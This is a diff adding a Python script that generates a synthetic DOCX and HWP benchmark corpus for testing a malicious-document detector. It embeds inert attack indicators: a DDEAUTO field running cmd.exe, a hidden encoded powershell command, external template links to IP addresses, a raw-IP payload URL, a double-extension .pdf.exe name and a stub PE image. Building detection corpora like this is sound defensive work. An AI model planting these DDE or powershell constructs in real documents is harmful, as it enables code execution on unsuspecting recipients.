@@ -0,0 +1,271 @@
+#!/usr/bin/env python3
+# -*- coding: utf-8 -*-
+"""
+corpus.py
+- 벤치마크용 합성 DOCX / HWP(OLE) 코퍼스 생성기
+- DOCX: 머리글/바닥글 다수, 대형 document.xml, vbaProject.bin, DDE 필드, 외부 템플릿, 의심 명령
+- HWP : CFB 컨테이너 + (압축) BodyText/BinData, 검증 가능한 PE(MZ), EPS, 원시 IP 링크, 이중 확장자
+- 같은 seed 면 같은 바이트가 나온다 (기준선 비교용)
+- 사용법: python bench/corpus.py --out /tmp/corpus [--profile smoke|default|large]
+"""
+
+import argparse
+import io
+import json
+import random
+import struct
+import sys
+import zipfile
+import zlib
+from pathlib import Path
+from typing import Dict, List, Optional, Sequence
+
+sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "detect_core"))
+
+import cfb_writer  # noqa: E402
+
+# --- CFB(OLE) 쓰기: detect_core/cfb_writer (클린업이 쓰는 것과 같은 라이터) ---
+def write_cfb(streams: Dict[str, bytes]) -> bytes:
+    """{"BinData/BIN0001.OLE": bytes, ...} -> CFB 파일 바이트"""
+    buf = io.BytesIO()
+    cfb_writer.write_cfb(buf, [cfb_writer.StreamSource(p, len(d), lambda d=d: [d]) for p, d in streams.items()])
+    return buf.getvalue()
+
+
+# --- 페이로드 ---
+def make_pe(rnd: random.Random) -> bytes:
+    """헤더 검증(e_lfanew → PE\\0\\0 → Machine → OptionalHeader magic)을 통과하는 최소 PE32 이미지 (7 KiB)"""
+    img = bytearray(0x1C00)
+    img[0:2] = b"MZ"
+    struct.pack_into("<I", img, 0x3C, 0x80)
+    img[0x40:0x40 + 39] = b"This program cannot be run in DOS mode."
+    pe = 0x80
+    img[pe:pe + 4] = b"PE\x00\x00"
+    struct.pack_into("<HHIIIHH", img, pe + 4, 0x014C, 2, 0, 0, 0, 0xE0, 0x0102)
+    opt = pe + 24
+    struct.pack_into("<H", img, opt, 0x10B)
+    struct.pack_into("<II", img, opt + 56, 0x4000, 0x400)   # SizeOfImage, SizeOfHeaders
+    sec = opt + 0xE0
+    for i, (name, va, raw, ptr) in enumerate(((b".text", 0x1000, 0x1000, 0x400),
+                                              (b".data", 0x2000, 0x800, 0x1400))):
+        e = sec + i * 40
+        img[e:e + len(name)] = name
+        struct.pack_into("<IIII", img, e + 8, raw, va, raw, ptr)
+    img[0x400:] = rnd.randbytes(len(img) - 0x400)
+    return bytes(img)
+
+
+_EPS = (b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 612 792\n"
+        b"/exploit { 16#41414141 } def\nshowpage\n%%EOF\n")
+_RAW_IP_URL = "http://192.168.13.37/update/payload.bin"
+_DOUBLE_EXT = "invoice_2026.pdf.exe"
+
+_KO_WORDS = ["보고서", "회의", "예산", "일정", "검토", "결과", "사업", "계획", "부서", "승인", "자료", "요청"]
+_EN_WORDS = ["report", "budget", "meeting", "process", "quarter", "review", "summary", "regional",
+             "command", "power", "certificate", "script", "bits", "shell"]
+
+
+def _filler_text(rnd: random.Random, n_chars: int, words: Sequence[str]) -> str:
+    out: List[str] = []
+    size = 0
+    while size < n_chars:
+        w = rnd.choice(words)
+        out.append(w)
+        size += len(w) + 1
+    return " ".join(out)[:n_chars]
+
+
+def _deflate(data: bytes) -> bytes:
+    c = zlib.compressobj(6, zlib.DEFLATED, -15)
+    return c.compress(data) + c.flush()
+
+
+# --- HWP 생성 ---
+def _file_header(compressed: bool) -> bytes:
+    head = bytearray(256)
+    sig = b"HWP Document File"
+    head[0:len(sig)] = sig
+    struct.pack_into("<II", head, 32, 0x05000300, 0x1 if compressed else 0x0)
+    return bytes(head)
+
+
+def make_hwp(
+    bindata_mb: float = 1.0,
+    text_kb: int = 64,
+    compressed: bool = True,
+    payloads: Sequence[str] = (),
+    n_bindata: int = 4,
+    seed: int = 0,
+) -> bytes:
+    """
+    HWP 5.x 와 같은 구조의 CFB 파일.
+    payloads: "PE_MZ"(BinData 에 PE), "EPS_PS"(BinData 에 EPS), "RAW_IP" / "DOUBLE_EXT"(BodyText 본문)
+    BinData 는 난수(이미지처럼 압축이 안 되는 내용), BodyText 는 UTF-16LE 본문 (compressed 면 raw deflate)
+    """
+    rnd = random.Random(seed)
+    pack = _deflate if compressed else (lambda b: b)
+
+    body = _filler_text(rnd, text_kb * 512, _KO_WORDS)
+    inserts = []
+    if "RAW_IP" in payloads:
+        inserts.append(f" 자세한 내용은 {_RAW_IP_URL} 참고 ")
+    if "DOUBLE_EXT" in payloads:
+        inserts.append(f" 첨부: {_DOUBLE_EXT} ")
+    for s in inserts:
+        pos = rnd.randrange(len(body) // 2, len(body))
+        body = body[:pos] + s + body[pos:]
+
+    streams: Dict[str, bytes] = {
+        "FileHeader": _file_header(compressed),
+        "DocInfo": pack(_filler_text(rnd, 2048, _KO_WORDS).encode("utf-16-le")),
+        "BodyText/Section0": pack(body.encode("utf-16-le")),
+        "PrvText": _filler_text(rnd, 512, _KO_WORDS).encode("utf-16-le"),
+    }
+    per = max(1, int(bindata_mb * (1 << 20)) // max(1, n_bindata))
+    for i in range(n_bindata):
+        blob = bytearray(rnd.randbytes(per))
+        # 난수 속 우연한 'MZ' 는 그대로 둔다 (PE 검증이 걸러야 하는 오탐 후보)
+        if i == 0 and "PE_MZ" in payloads:
+            pe = make_pe(rnd)
+            at = rnd.randrange(0, max(1, per - len(pe)))
+            blob[at:at + len(pe)] = pe
+        if i == min(1, n_bindata - 1) and "EPS_PS" in payloads:
+            at = rnd.randrange(0, max(1, per - len(_EPS)))
+            blob[at:at + len(_EPS)] = _EPS
+        streams[f"BinData/BIN{i + 1:04X}.{'eps' if i == 1 else 'OLE'}"] = pack(bytes(blob))
+    return write_cfb(streams)
+
+
+# --- DOCX 생성 ---
+_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+_REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
+_TEMPLATE_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+
+
+def _paragraphs(rnd: random.Random, n_chars: int) -> str:
+    out: List[str] = []
+    size = 0
+    while size < n_chars:
+        t = _filler_text(rnd, rnd.randint(40, 400), _EN_WORDS + _KO_WORDS)
+        p = f"<w:p><w:r><w:t xml:space=\"preserve\">{t}</w:t></w:r></w:p>"
+        out.append(p)
+        size += len(p)
+    return "".join(out)
+
+
+def make_docx(
+    document_kb: int = 64,
+    n_headers: int = 0,
+    vba: bool = False,
+    dde: bool = False,
+    template: Optional[str] = None,
+    cmd: bool = False,
+    seed: int = 0,
+) -> bytes:
+    """
+    document_kb: document.xml 대략 크기 (압축 전). n_headers: 머리글/바닥글 각각 개수.
+    dde: 마지막 머리글(없으면 본문)에 DDEAUTO 필드, cmd: 본문 끝에 powershell 호출 문자열
+    """
+    rnd = random.Random(seed)
+    body = _paragraphs(rnd, document_kb * 1024)
+    fld = ('<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe '
+           '&quot;/k calc&quot;"/></w:p>')
+    if cmd:
+        body += "<w:p><w:r><w:t>powershell.exe -nop -w hidden -enc SQBFAFgA</w:t></w:r></w:p>"
+    if dde and not n_headers:
+        body += fld
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("[Content_Types].xml", "<Types/>")
+        z.writestr("word/document.xml", f"<w:document {_W}><w:body>{body}</w:body></w:document>")
+        for i in range(1, n_headers + 1):
+            hdr = _paragraphs(rnd, 2048)
+            if dde and i == n_headers:
+                hdr += fld
+            z.writestr(f"word/header{i}.xml", f"<w:hdr {_W}>{hdr}</w:hdr>")
+            z.writestr(f"word/footer{i}.xml", f"<w:ftr {_W}>{_paragraphs(rnd, 1024)}</w:ftr>")
+        if vba:
+            z.writestr("word/vbaProject.bin", write_cfb({"VBA/ThisDocument": rnd.randbytes(8192)}))
+        if template:
+            z.writestr(
+                "word/_rels/settings.xml.rels",
+                f'<Relationships xmlns="{_REL_NS}"><Relationship Id="rId1" Type="{_TEMPLATE_TYPE}" '
+                f'Target="{template}" TargetMode="External"/></Relationships>',
+            )
+    return buf.getvalue()
+
+
+# --- 프로필: (파일명, 생성 함수, 인자, 기대 규칙 키) ---
+def _profile(name: str) -> List[tuple]:
+    smoke = [
+        ("clean_small.docx", make_docx, {"document_kb": 32}, []),
+        ("vba.docx", make_docx, {"document_kb": 32, "vba": True}, ["VBA"]),
+        ("dde_headers.docx", make_docx, {"document_kb": 64, "n_headers": 3, "dde": True}, ["DDE"]),
+        ("template_cmd.docx", make_docx, {"document_kb": 64, "template": "http://203.0.113.7/t.dotm",
+                                          "cmd": True}, ["TEMPLATE", "CMD"]),
+        ("clean_small.hwp", make_hwp, {"bindata_mb": 0.25}, []),
+        ("ip_ext.hwp", make_hwp, {"bindata_mb": 0.25, "payloads": ("RAW_IP", "DOUBLE_EXT")},
+         ["RAW_IP", "DOUBLE_EXT"]),
+        ("pe_eps.hwp", make_hwp, {"bindata_mb": 0.5, "payloads": ("PE_MZ", "EPS_PS")}, ["PE_MZ", "EPS_PS"]),
+    ]
+    if name == "smoke":
+        return smoke
+    default = smoke + [
+        ("clean_8mb.docx", make_docx, {"document_kb": 8 * 1024, "n_headers": 3}, []),
+        ("all_8mb.docx", make_docx, {"document_kb": 8 * 1024, "n_headers": 3, "vba": True, "dde": True,
+                                     "template": "\\\\198.51.100.2\\share\\t.dotm", "cmd": True},
+         ["VBA", "TEMPLATE", "DDE", "CMD"]),
+        ("clean_8mb.hwp", make_hwp, {"bindata_mb": 8, "text_kb": 512}, []),
+        ("pe_16mb.hwp", make_hwp, {"bindata_mb": 16, "payloads": ("PE_MZ",), "n_bindata": 8}, ["PE_MZ"]),
+        ("raw_8mb.hwp", make_hwp, {"bindata_mb": 8, "compressed": False, "payloads": ("EPS_PS", "RAW_IP")},
+         ["EPS_PS", "RAW_IP"]),
+    ]
+    if name == "default":
+        return default
+    if name == "large":
+        return default + [
+            # document.xml 이 스트리밍 임계값(16 MiB)을 넘는 경우
+            ("huge_40mb.docx", make_docx, {"document_kb": 40 * 1024, "cmd": True}, ["CMD"]),
+            # FAT 이 109 섹터를 넘는 → DIFAT 섹터가 필요한 크기
+            ("clean_64mb.hwp", make_hwp, {"bindata_mb": 64, "n_bindata": 16}, []),
+            ("all_64mb.hwp", make_hwp, {"bindata_mb": 64, "n_bindata": 16, "compressed": False,
+                                        "payloads": ("PE_MZ", "EPS_PS", "RAW_IP", "DOUBLE_EXT")},
+             ["PE_MZ", "EPS_PS", "RAW_IP", "DOUBLE_EXT"]),
+        ]
+    raise ValueError(f"unknown profile: {name}")
+
+
+PROFILES = ("smoke", "default", "large")
+MANIFEST = "manifest.json"
+
+
+def generate(out_dir: Path, profile: str = "default", seed: int = 0) -> List[Dict]:
+    """코퍼스를 out_dir 에 쓰고 manifest.json ({name, kind, bytes, expect}) 목록 반환. 이미 있으면 재사용"""
+    out_dir = Path(out_dir)
+    out_dir.mkdir(parents=True, exist_ok=True)
+    man_path = out_dir / MANIFEST
+    if man_path.exists():
+        man = json.loads(man_path.read_text(encoding="utf-8"))
+        if man.get("profile") == profile and man.get("seed") == seed and all(
+            (out_dir / f["name"]).exists() for f in man["files"]
+        ):
+            return man["files"]
+
+    files = []
+    for i, (name, fn, kwargs, expect) in enumerate(_profile(profile)):
+        data = fn(seed=seed + i, **kwargs)
+        (out_dir / name).write_bytes(data)
+        files.append({"name": name, "kind": name.rsplit(".", 1)[-1], "bytes": len(data), "expect": expect})
+    man_path.write_text(json.dumps({"profile": profile, "seed": seed, "files": files}, indent=2),
+                        encoding="utf-8")
+    return files
+
+
+if __name__ == "__main__":
+    ap = argparse.ArgumentParser()
+    ap.add_argument("--out", required=True, help="코퍼스 디렉터리")
+    ap.add_argument("--profile", default="default", choices=PROFILES)
+    ap.add_argument("--seed", type=int, default=0)
+    args = ap.parse_args()
+    for f in generate(Path(args.out), args.profile, args.seed):
+        print(f"{f['name']:<22} {f['bytes'] / (1 << 20):8.2f} MiB  expect={','.join(f['expect']) or '-'}")